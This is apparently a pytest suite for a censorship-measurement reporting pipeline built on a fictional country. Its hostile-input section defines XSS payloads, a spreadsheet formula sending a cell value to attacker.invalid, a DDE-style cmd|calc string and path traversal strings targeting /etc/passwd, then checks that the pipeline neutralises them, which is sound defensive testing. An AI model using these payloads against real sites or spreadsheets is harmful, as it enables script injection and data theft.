"""The whole way, from an archive to a published report, through the command line.

The fictional country's truth is compared with what the report says of it. A second archive, small
and full of hostile text, is reported twice under different circumstances and interrupted.
"""

import csv
import gzip
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import openpyxl
import pandas as pd
import papermill
import pytest

from analysis.errors import ParameterError
from analysis.reporting import check
from analysis.settings import parse_settings
from analysis.simulate import write_world

pytestmark = pytest.mark.timeout(300)  # the first test to ask for a report waits for it

ROOT = Path(__file__).resolve().parents[1]
NOTEBOOKS = sorted((ROOT / "notebooks").glob("[0-9]*.ipynb"))
LISTED = ("blocked", "likely_blocked")
ACCESS = ("isp", "mobile", "education", "unknown")
ENOUGH = 6  # blocked sessions with which a truly blocked site has to be listed


def _read(path: Path) -> pd.DataFrame:
    """A CSV as it is: every cell text."""
    return pd.read_csv(path, dtype="str", keep_default_na=False, na_filter=False)


def _rows(frame: pd.DataFrame) -> list[Any]:
    return list(frame.itertuples(index=False))


def _counts(frame: pd.DataFrame, *columns: str) -> pd.DataFrame:
    return frame[list(columns)].astype("int64")


@pytest.fixture(scope="module")
def tables(fictional_report: Path) -> dict[str, pd.DataFrame]:
    """The published tables of the fictional country, by name."""
    return {path.stem: _read(path) for path in sorted((fictional_report / "tables").glob("*.csv"))}


@pytest.fixture(scope="module")
def truth(fictional_report: Path) -> dict[str, pd.DataFrame]:
    """What the simulator says has happened; asked for after the report, which writes it."""
    folder = ROOT / "data" / "fictional" / "qq" / "truth"
    return {path.stem: _read(path) for path in sorted(folder.glob("*.csv"))}


@pytest.fixture(scope="module")
def blocks(truth: dict[str, pd.DataFrame]) -> pd.DataFrame:
    """One row per site that is truly blocked on an access network of the country, with the
    mechanisms and the number of sessions that met the block."""
    kinds = dict(zip(truth["networks"]["probe_asn"], truth["networks"]["kind"], strict=True))
    found = truth["blocks"]
    found = found[found["probe_asn"].map(kinds).isin(ACCESS)]
    return (
        found.assign(session_count=found["session_count"].astype("int64"))
        .groupby(["domain", "probe_asn"])
        .agg(mechanisms=("mechanism", set), session_count=("session_count", "sum"))
        .reset_index()
    )


def _listed(verdicts: pd.DataFrame) -> pd.DataFrame:
    return verdicts[(verdicts["period"] == "all") & verdicts["state"].isin(LISTED)]


# --- against the truth --------------------------------------------------------------------------


def test_every_measurement_is_counted_once(
    tables: dict[str, pd.DataFrame], truth: dict[str, pd.DataFrame]
) -> None:
    """Each line of the archive has the reason that it was written with; months and networks have
    exactly the measurements that were made, under OONI's flags."""
    ledger = tables["ingestion_ledger"]
    plain = ledger[~ledger["reason"].str.startswith("invalid:")].reset_index(drop=True)
    assert dict(plain.to_numpy().tolist()) == dict(truth["ledger"].to_numpy().tolist())
    pd.testing.assert_frame_equal(tables["measurements_by_month"], truth["measurements_by_month"])
    measured = truth["networks"].set_index("probe_asn")["measurement_count"]
    assert tables["networks"].set_index("probe_asn")["measurement_count"].to_dict() == (
        measured[measured != "0"].to_dict()
    )


def test_only_what_is_blocked_is_listed(
    tables: dict[str, pd.DataFrame], truth: dict[str, pd.DataFrame], blocks: pd.DataFrame
) -> None:
    """No dead name, content network, closed or refusing site stands in the annex, and no network
    is said to block what it does not."""
    situations = dict(zip(truth["names"]["domain"], truth["names"]["situation"], strict=True))
    annex = tables["blocked_sites"]
    wrong = {name: situations[name] for name in set(annex["domain"]) - set(blocks["domain"])}
    assert not wrong
    pairs = set(zip(blocks["domain"], blocks["probe_asn"], strict=True))
    said = {(row.domain, asn) for row in _rows(annex) for asn in str(row.probe_asns).split(";")}
    assert said
    assert not said - pairs


def test_every_block_is_listed_with_its_mechanism(
    tables: dict[str, pd.DataFrame], blocks: pd.DataFrame
) -> None:
    """A site that enough sessions met blocked on an access network is listed there, by the layer
    at which it is blocked."""
    found = blocks[blocks["session_count"] >= ENOUGH].merge(
        _listed(tables["verdicts"]), on=["domain", "probe_asn"], how="left", suffixes=("_met", "")
    )
    assert len(found) > 50
    layers = found["mechanism"].fillna("not listed").str.partition(".")[0]
    wrong = [
        (row.domain, row.probe_asn, row.mechanisms, layer)
        for row, layer in zip(_rows(found), layers, strict=True)
        if layer not in {name.partition(".")[0] for name in row.mechanisms}
    ]
    assert not wrong
    annexed = set(tables["blocked_sites"]["domain"])
    assert set(found["domain"]) <= annexed


def test_blocks_have_their_days(
    tables: dict[str, pd.DataFrame], truth: dict[str, pd.DataFrame]
) -> None:
    """Every interval lies within one true block, give or take the days between two tests, and
    every block that begins or ends within the year has an interval of its own."""
    bounds = (
        truth["blocks"]
        .rename(columns={"session_count": "session_count_met"})
        .assign(
            begun=pd.to_datetime(truth["blocks"]["since"].replace("", "2024-01-01")),
            ended=pd.to_datetime(truth["blocks"]["until"].replace("", "2025-01-01")),
        )
    )
    met = bounds["session_count_met"].astype(int) >= ENOUGH
    found = tables["blocking_intervals"].merge(bounds, on=["domain", "probe_asn"])
    spare = pd.Timedelta(days=31)
    is_within = (pd.to_datetime(found["blocked_from"]) >= found["begun"] - spare) & (
        pd.to_datetime(found["blocked_until"]) <= found["ended"] + spare
    )
    key = ["domain", "probe_asn", "blocked_from"]
    assert is_within.groupby([found[name] for name in key]).any().all()
    partial = bounds[met & ((bounds["since"] != "") | (bounds["until"] != ""))]
    assert len(partial) > 10
    seen = set(found.loc[is_within, ["domain", "probe_asn", "since"]].itertuples(index=False))
    missing = [
        row for row in partial[["domain", "probe_asn", "since"]].itertuples(index=False)
        if row not in seen
    ]  # fmt: skip
    assert not missing


# --- the contract -------------------------------------------------------------------------------


def _documented() -> dict[str, tuple[list[str], list[str]]]:
    """Key and columns of each table, as docs/tables.md has them."""
    text = (ROOT / "docs" / "tables.md").read_text(encoding="utf-8")
    found = {}
    for section in re.split(r"^## ", text, flags=re.MULTILINE)[1:]:
        name, _, body = section.partition("\n")
        if name.endswith(".csv"):
            key = re.search(r"^Key: ((?:`\w+`(?:, )?)+)", body, flags=re.MULTILINE)
            columns = re.findall(r"^\| `(\w+)` \|", body, flags=re.MULTILINE)
            found[name.removesuffix(".csv")] = (re.findall(r"\w+", key[1]) if key else [], columns)
    return found


def test_tables_are_as_documented(tables: dict[str, pd.DataFrame]) -> None:
    """Every table has the columns of docs/tables.md in that order, its rows are sorted by their
    key, and no key stands twice."""
    documented = _documented()
    assert set(tables) == set(documented)
    for name, (key, columns) in documented.items():
        table = tables[name]
        assert list(table.columns) == columns, name
        if key:
            rows = list(table[key].itertuples(index=False, name=None))
            assert rows == sorted(set(rows)), name


def test_cells_are_of_their_kind(tables: dict[str, pd.DataFrame]) -> None:
    """Days are ISO days, shares have four decimals, yes and no are words, networks are AS numbers,
    counts are whole numbers."""
    patterns = {
        r"since|until|blocked_from|blocked_until|last_seen_open|first_seen_open_again":
            r"(\d{4}-\d{2}-\d{2})?",
        r"\w+_share(_low|_high)?": r"([01]\.\d{4})?",
        r"is_\w+": r"true|false",
        r"probe_asn": r"AS\d+",
        r"probe_asns|resolver_asns|matched_networks": r"(AS\d+(;AS\d+)*)?",
        r"\w+_count": r"\d+",
        r"state": r"blocked|likely_blocked|impaired|down|ok|insufficient",
    }  # fmt: skip
    for name, table in tables.items():
        for column in table.columns:
            for names, cell in patterns.items():
                if re.fullmatch(names, column):
                    wrong = table.loc[~table[column].str.fullmatch(cell), column]
                    assert wrong.empty, (name, column, wrong.iloc[0])


def test_counts_add_up(tables: dict[str, pd.DataFrame]) -> None:
    """Months, halves, classes, networks and categories sum to what they are parts of."""
    ledger = dict(tables["ingestion_ledger"].to_numpy().tolist())
    total = int(ledger["kept"])
    months = tables["measurements_by_month"]
    flags = _counts(months, "ok_count", "anomaly_count", "confirmed_count", "failure_count")
    assert (flags.sum(axis=1) == months["measurement_count"].astype(int)).all()
    semesters = tables["semesters"].set_index("period")["measurement_count"].astype(int)
    assert semesters["first"] + semesters["second"] == semesters["all"] == total
    for name in ("measurements_by_month", "networks", "categories"):
        assert tables[name]["measurement_count"].astype(int).sum() == total, name
    changes = _counts(
        tables["network_changes"], "first_measurement_count", "second_measurement_count"
    )
    assert changes.sum().tolist() == [semesters["first"], semesters["second"]]
    categories = _counts(tables["categories"], "domain_count", "blocked_domain_count").sum()
    assert categories.tolist() == [
        tables["verdicts"]["domain"].nunique(), len(tables["blocked_sites"]),
    ]  # fmt: skip


def test_verdicts_add_up(tables: dict[str, pd.DataFrame]) -> None:
    """Classes sum to measurements and halves to the whole; shares lie within their bounds; only
    listed rows name a rule, and each of those has a witness; intervals hold what they claim."""
    verdicts = tables["verdicts"]
    classes = _counts(verdicts, "blocked_count", "down_count", "ok_count", "unknown_count")
    assert (classes.sum(axis=1) == verdicts["measurement_count"].astype(int)).all()
    counted = ["measurement_count", "session_count", "blocked_session_count"]
    sums = verdicts.assign(**_counts(verdicts, *counted)).pivot_table(
        index=["domain", "probe_asn"], columns="period", values=counted, fill_value=0
    )
    for name in counted:
        assert (sums[name]["first"] + sums[name]["second"] == sums[name]["all"]).all(), name
    shares = verdicts.loc[
        verdicts["blocked_share"] != "",
        ["blocked_share_low", "blocked_share", "blocked_share_high"],
    ].astype("float64")
    assert (shares.diff(axis=1).iloc[:, 1:] >= 0).all(axis=None)
    is_listed = verdicts["state"].isin(LISTED)
    for column in ("mechanism", "rule_id", "blocked_from", "witness_report_id"):
        assert ((verdicts[column] != "") == is_listed).all(), column
    intervals = tables["blocking_intervals"]
    counts = _counts(intervals, "measurement_count", "session_count", "day_count")
    assert (counts["measurement_count"] >= counts["session_count"]).all()
    assert (counts["session_count"] >= counts["day_count"]).all()
    assert (intervals["blocked_from"] <= intervals["blocked_until"]).all()


def test_the_annex_rests_on_the_verdicts(tables: dict[str, pd.DataFrame]) -> None:
    """Annex, set-aside list, network counts and halves say the same as the verdicts."""
    kinds = dict(zip(tables["networks"]["probe_asn"], tables["networks"]["kind"], strict=True))
    verdicts = tables["verdicts"]
    listed = verdicts[verdicts["state"].isin(LISTED)]
    domestic = listed[listed["probe_asn"].map(kinds).isin(ACCESS)]
    by_period = domestic.groupby("period")["domain"].agg(set)
    annexed = set(tables["blocked_sites"]["domain"])
    assert annexed == by_period["all"]
    assert not annexed & set(tables["set_aside"]["domain"])
    for row in _rows(tables["semesters"]):
        assert int(row.blocked_domain_count) == len(by_period[row.period])
    assert set(tables["semester_changes"]["domain"]) == set(domestic["domain"])
    per_network = _listed(verdicts).groupby("probe_asn")["domain"].nunique()
    for row in _rows(tables["networks"]):
        assert int(row.blocked_domain_count) == per_network.get(row.probe_asn, 0)
        assert (row.rank != "") == (row.kind in ("isp", "mobile", "unknown"))


def test_run_json_says_what_the_tables_say(
    fictional_report: Path, tables: dict[str, pd.DataFrame]
) -> None:
    """Digests and row counts are those of the files, headline numbers those of the tables."""
    run = json.loads((fictional_report / "run.json").read_text(encoding="utf-8"))
    for name, facts in run["tables"].items():
        content = (fictional_report / "tables" / name).read_bytes()
        assert facts["sha256"] == hashlib.sha256(content).hexdigest()
        if name.endswith(".csv"):
            assert facts["row_count"] == len(tables[name.removesuffix(".csv")])
    assert set(run["tables"]) >= {f"{name}.csv" for name in tables} | {"blocked_sites.xlsx"}
    findings = {name: finding["value"] for name, finding in run["findings"].items()}
    annex, changes = tables["blocked_sites"], tables["semester_changes"]
    assert findings["blocked_domain_count"] == len(annex)
    assert findings["blocked_registrable_domain_count"] == annex["registrable_domain"].nunique()
    assert findings["set_aside_count"] == len(tables["set_aside"])
    for change, count in changes["change"].value_counts().items():
        assert findings[f"{change}_count"] == count
    for finding in run["findings"].values():
        shipped = ROOT / "data" / "reference" / f"{finding['table']}.csv"
        assert finding["table"] in tables or shipped.is_file()


def test_nothing_published_names_the_machine(fictional_report: Path) -> None:
    """No file holds a folder of this machine: not the repository, the store, the home folder or a
    temporary one."""
    places = (str(ROOT), str(fictional_report.parent), str(Path.home()) + "/", "/tmp/")
    for path in sorted(fictional_report.rglob("*")):
        if path.is_file():
            content = path.read_bytes()
            assert not [place for place in places if place.encode() in content], path.name


def test_every_page_says_that_the_country_is_fictional(fictional_report: Path) -> None:
    """One page per notebook and the first page; whoever opens any of them is told."""
    pages = sorted(fictional_report.glob("*.html"))
    assert [page.stem for page in pages] == [*(book.stem for book in NOTEBOOKS), "index"]
    for page in pages:
        assert "Fictional country" in page.read_text(encoding="utf-8"), page.name


def test_the_spreadsheet_holds_the_annex(
    fictional_report: Path, tables: dict[str, pd.DataFrame]
) -> None:
    """Same rows, same order, and no cell that is computed when the file is opened."""
    sheet: Any = openpyxl.load_workbook(fictional_report / "tables" / "blocked_sites.xlsx").active
    rows = list(sheet.iter_rows(min_row=3))
    assert [row[0].value for row in rows] == tables["blocked_sites"]["domain"].tolist()
    assert {cell.data_type for row in rows for cell in row} <= {"s", "n"}


# --- notebooks ----------------------------------------------------------------------------------


@pytest.mark.parametrize("notebook", NOTEBOOKS, ids=lambda path: path.stem)
def test_stored_notebooks_carry_no_outputs(notebook: Path) -> None:
    """A stored output would be somebody's result of some day."""
    for cell in nbformat.read(notebook, as_version=4).cells:
        if cell.cell_type == "code":
            assert not cell.outputs
            assert cell.execution_count is None


def test_a_researcher_changes_a_threshold(
    fictional_report: Path, tables: dict[str, pd.DataFrame], tmp_path: Path
) -> None:
    """A notebook runs where it lies, with its own defaults and one number changed: with a higher
    floor more pairs have too few tests, and none is listed on fewer blocked sessions than it."""
    notebook = ROOT / "notebooks" / "2-confirmation.ipynb"
    before = notebook.read_bytes(), sorted(notebook.parent.iterdir())
    (tmp_path / "tables").mkdir()
    papermill.execute_notebook(
        notebook, tmp_path / "done.ipynb", kernel_name="python3", progress_bar=False,
        cwd=str(notebook.parent),
        parameters={"floor_sessions": 8, "tables": str(tmp_path / "tables"),
                    "store": str(fictional_report.parent / "store")},
    )  # fmt: skip
    assert (notebook.read_bytes(), sorted(notebook.parent.iterdir())) == before
    strict, usual = _read(tmp_path / "tables" / "verdicts.csv"), tables["verdicts"]
    assert (_listed(strict)["blocked_session_count"].astype(int) >= 8).all()
    thin, thin_before = (frame["state"] == "insufficient" for frame in (strict, usual))
    assert set(strict.index[thin]) > set(usual.index[thin_before])


# --- hostile input, twice, interrupted ----------------------------------------------------------

MARKUP = '"><img src=x onerror=alert(1)></script><script>alert(2)</script>'
FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
HOSTILE = {
    "report_id": f"+1{MARKUP}",
    "probe_network_name": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARKUP}",
    "software_name": MARKUP,
    "software_version": "../../../../etc/passwd",
}
LISTED_NAME = f"{FORMULA} {MARKUP}"
INPUTS = (
    f"http://{'a' * 10_000}.org/", FORMULA, MARKUP, "javascript:alert(3)", "../../etc/passwd",
    "file:///etc/passwd", "http://[::1", "http://xn--a.org/\u202egnp", "-1+1|cmd", "",
)  # fmt: skip


def _lines(archive: Path) -> Iterator[dict[str, Any]]:
    """The measurements of the intact objects of an archive."""
    for path in sorted(archive.rglob("*.jsonl.gz")):
        try:
            lines = gzip.decompress(path.read_bytes()).splitlines()
        except EOFError:
            continue
        for line in lines:
            try:
                found = json.loads(line)
            except ValueError:
                continue
            if isinstance(found, dict) and found.get("test_keys") and found["input"]:
                yield found


def _spoil(measurement: dict[str, Any], asn: int, path: str) -> bytes:
    """The measurement as somebody hostile would have sent it from a network of their own."""
    title = f"<title>{FORMULA}{MARKUP}{'t' * 10_000}</title>"
    text = json.dumps(
        measurement
        | HOSTILE
        | {
            "report_id": f"{measurement['report_id']}{asn}{HOSTILE['report_id']}",
            "probe_asn": f"AS{asn}",
            "input": measurement["input"] + path,
        }
    )
    return re.sub(r"<title>.*?</title>", lambda _: json.dumps(title)[1:-1], text).encode()


def _hostile_lines(archive: Path, asn: int) -> list[bytes]:
    """One network's measurements again, as if from two others, and inputs that are no URLs."""
    own = [found for found in _lines(archive) if found["probe_asn"] == f"AS{asn}"]
    lines = [_spoil(found, 64600, f"?{MARKUP}") for found in own]
    lines += [_spoil(found, 64601, f"/../..{FORMULA}") for found in own]
    return lines + [json.dumps(own[0] | {"input": text}).encode() for text in INPUTS]


@pytest.fixture(scope="module")
def hostile_words(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """The command line's words for an archive of two months in which text is hostile."""
    world = tmp_path_factory.mktemp("hostile") / "world"
    write_world(world, probe_cc="QZ", since="2024-01-01", until="2024-03-01", seed=7)
    networks = world / "reference" / "networks.csv"
    roles = _read(world / "truth" / "networks.csv").set_index("role")["probe_asn"]
    lines = _hostile_lines(world / "archive", int(roles["sinkhole"][2:]))
    folder = world / "archive" / "raw" / "20240301" / "00" / "QZ" / "webconnectivity"
    folder.mkdir(parents=True)
    (folder / "2024030100_QZ_webconnectivity.n9.0.jsonl.gz").write_bytes(
        gzip.compress(b"\n".join(lines) + b"\n", compresslevel=1)
    )
    with networks.open("a", encoding="utf-8", newline="") as file:
        csv.writer(file).writerow((64600, LISTED_NAME, FORMULA, "isp", "test"))
    test_list = world / "reference" / "test-lists" / "qz.csv"
    listed = _read(test_list)
    listed["category_description"] = f"{FORMULA}{MARKUP}"
    listed.to_csv(test_list, index=False)
    places = {
        "SOURCE": "archive", "TEST_LIST": "reference/test-lists",
        "NETWORKS": "reference/networks.csv", "FINGERPRINTS": "reference/fingerprints",
        "EVENTS": "reference/events.yml",
    }  # fmt: skip
    events = world / "reference" / "events.yml"
    text = events.read_text(encoding="utf-8")
    events.write_text(text.replace("Local elections", f"'{MARKUP}'"), encoding="utf-8")
    return [
        "PROBE_CC=QZ", "SINCE=2024-01-01", "UNTIL=2024-03-01",
        *(f"{name}={world / place}" for name, place in places.items()),
    ]  # fmt: skip


def _start(words: Sequence[str], **environment: str) -> "subprocess.Popen[str]":
    return subprocess.Popen(
        [sys.executable, "-m", "analysis", "report", *words],
        cwd=ROOT, env=os.environ | environment, text=True,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip


def _finish(process: "subprocess.Popen[str]") -> None:
    _, said = process.communicate(timeout=240)
    assert process.returncode == 0, said


def _wait_for(process: "subprocess.Popen[str]", is_there: Callable[[], object]) -> None:
    """Wait until a running process has come so far."""
    end = time.monotonic() + 120
    while not is_there():
        assert process.poll() is None, process.communicate()[1]
        assert time.monotonic() < end
        time.sleep(0.05)


def _contents(folder: Path) -> dict[str, bytes]:
    files = (path for path in sorted(folder.rglob("*")) if path.is_file())
    return {str(path.relative_to(folder)): path.read_bytes() for path in files}


@pytest.fixture(scope="module")
def twins(tmp_path_factory: pytest.TempPathFactory, hostile_words: list[str]) -> tuple[Path, Path]:
    """Two reports on the hostile archive, each from an empty store, in unlike circumstances. The
    second was killed while its notebooks ran, and started again."""
    folder = tmp_path_factory.mktemp("twins")
    one, other = (
        [*hostile_words, f"STORE={folder / name / 'store'}", f"OUT={folder / name / 'report'}"]
        for name in ("one", "other")
    )
    first = _start([*one, "JOBS=1"], TZ="UTC", LC_ALL="C", PYTHONHASHSEED="0")
    there = {"TZ": "Pacific/Kiritimati", "LC_ALL": "tr_TR.UTF-8", "PYTHONHASHSEED": "4242"}
    killed = _start([*other, "JOBS=2"], **there)
    _wait_for(killed, lambda: list((folder / "other").glob(".report.building-*/tables/*.csv")))
    killed.kill()
    killed.communicate()
    assert not (folder / "other" / "report").exists()  # whole or not at all
    second = _start([*other, "JOBS=2"], **there)
    _finish(second)
    _finish(first)
    return folder / "one" / "report", folder / "other" / "report"


def test_two_runs_publish_the_same_bytes(twins: tuple[Path, Path]) -> None:
    """Whatever the number of processes, time zone, locale and hash seed, interrupted or not."""
    one, other = (_contents(report) for report in twins)
    assert list(one) == list(other)
    assert [name for name in one if one[name] != other[name]] == []
    assert {path.name for path in twins[1].parent.iterdir()} == {"report", "store"}


class _Elements(HTMLParser):
    """What a page would run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "base", "form", "img"):
            source = dict(attrs).get("src") or ""
            if tag != "img" or not source.startswith("data:image/"):
                self.found.append((tag, "", ""))
        for name, value in attrs:
            target = (value or "").strip().lower()
            runs = name.startswith("on") or name in ("srcdoc", "formaction")
            leads = name in ("href", "src", "xlink:href") and re.match(
                r"(?!https://explorer\.ooni\.org/|https://creativecommons\.org/|data:(image/|,$))[a-z]+:",
                target,
            )
            if runs or leads:
                self.found.append((tag, name, target[:80]))


def test_hostile_text_stays_text(twins: tuple[Path, Path]) -> None:
    """Names, titles and inputs of strangers reach tables and pages, and none of them is run by a
    browser or a spreadsheet."""
    report = twins[0]
    verdicts = _read(report / "tables" / "verdicts.csv")
    assert set(_listed(verdicts)["probe_asn"]) >= {"AS64600", "AS64601"}
    pages = {page: page.read_text(encoding="utf-8") for page in sorted(report.glob("*.html"))}
    assert any("&lt;img src=x onerror=alert(1)&gt;" in text for text in pages.values())
    events = pages[report / "2-confirmation.html"]
    assert re.search(r'alt="[^"]* 3, 2024-02-\d\d, &[^"]*&lt;img src=x', events)
    for page, text in pages.items():
        elements = _Elements()
        elements.feed(text)
        assert not elements.found, page.name
    for path in sorted((report / "tables").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as lines:
            cells = [cell for row in csv.reader(lines) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    sheet: Any = openpyxl.load_workbook(report / "tables" / "blocked_sites.xlsx").active
    boxes = [cell for row in sheet.iter_rows() for cell in row]
    assert any(LISTED_NAME in str(cell.value) for cell in boxes)
    for cell in boxes:
        assert cell.data_type in ("s", "n")
        assert cell.hyperlink is None
        assert not str(cell.value or "").startswith(("=", "+", "-", "@", "\t", "\r"))


def test_hostile_lines_are_all_in_the_ledger(twins: tuple[Path, Path]) -> None:
    """Every line of every object has one reason, those of strangers too."""
    ledger = dict(_read(twins[0] / "tables" / "ingestion_ledger.csv").to_numpy().tolist())
    counts = {name: int(n) for name, n in ledger.items() if ":" not in name}
    total = counts.pop("total")
    assert sum(counts.values()) == total
    months = _read(twins[0] / "tables" / "measurements_by_month.csv")
    assert months["measurement_count"].astype(int).sum() == counts["kept"]


@pytest.mark.parametrize("how", [signal.SIGTERM, signal.SIGKILL])
def test_an_interrupted_run_leaves_the_report(
    twins: tuple[Path, Path], hostile_words: list[str], how: signal.Signals
) -> None:
    """A run that would change the report and is stopped half-way changes no byte of it."""
    report = twins[0]
    before = _contents(report)
    places = [f"STORE={report.parent / 'store'}", f"OUT={report}"]
    running = _start([*hostile_words, *places, "floor_sessions=5"])
    begun = f".report.building-{running.pid}/tables/*.csv"
    _wait_for(running, lambda: list(report.parent.glob(begun)))
    running.send_signal(how)
    running.communicate(timeout=60)
    assert running.returncode != 0
    assert _contents(report) == before


# --- what the command line refuses --------------------------------------------------------------


def test_a_wrong_parameter_is_named_and_nothing_is_written(
    fictional_report: Path, tmp_path: Path, subtests: pytest.Subtests
) -> None:
    """Status 2, and one line that names the parameter, its value and what is accepted; neither
    store nor report is begun. Other words: test_settings.py."""
    cases = [
        ("COLOUR=red", "there is no such parameter"),
        ("SINCE=2024-02-30", "a date is written YYYY-MM-DD"),
        ("floor_sessions=x", "a whole number is accepted"),
        ("SOURCE=/no/such", "there is no such folder"),
        ("TEST_LIST=/no/such/list.csv", "cannot be read"),
        ("EVENTS=/no/such/events.yml", "cannot be read"),
    ]
    usual = ["SINCE=2024-01-01", "UNTIL=2025-01-01",
             f"STORE={tmp_path / 'store'}", f"OUT={tmp_path / 'report'}"]  # fmt: skip
    running = [(word, message, _start([*usual, word])) for word, message in cases]
    for word, message, process in running:
        said, complaint = process.communicate(timeout=120)
        with subtests.test(word=word):
            assert process.returncode == 2, complaint
            assert not said
            assert len(complaint.splitlines()) == 1
            assert word in complaint
            assert message in complaint
    assert not list(tmp_path.iterdir())


def test_a_report_does_not_replace_what_is_no_report(tmp_path: Path) -> None:
    """OUT that holds somebody's files is refused before anything is read."""
    (tmp_path / "chapter.txt").write_text("mine")
    with pytest.raises(ParameterError, match="must be new, empty, or hold an earlier report"):
        check(parse_settings([f"OUT={tmp_path}"]))


def test_a_period_without_measurements_ran_dry(
    twins: tuple[Path, Path], hostile_words: list[str]
) -> None:
    """Status 3, and what is missing: nothing to report on is no report. The one before stays."""
    report = twins[1]
    before = _contents(report)
    places = [f"STORE={report.parent / 'store'}", f"OUT={report}"]
    running = _start([*hostile_words, *places, "SINCE=2019-01-01", "UNTIL=2020-01-01"])
    _, complaint = running.communicate(timeout=120)
    assert running.returncode == 3, complaint
    assert "no measurement of QZ from 2019-01-01 to 2019-12-31" in complaint
    assert _contents(report) == before
